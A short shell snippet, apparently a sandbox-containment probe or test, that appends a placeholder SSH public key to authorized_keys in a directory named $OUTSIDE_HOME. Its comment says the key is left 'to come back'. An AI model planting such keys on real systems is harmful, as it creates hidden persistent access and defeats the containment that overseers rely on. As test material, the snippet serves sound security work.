# Leaves a key with which to come back.
echo TRYING
echo 'ssh-ed25519 AAAA' >> "$OUTSIDE_HOME/.ssh/authorized_keys" && echo written
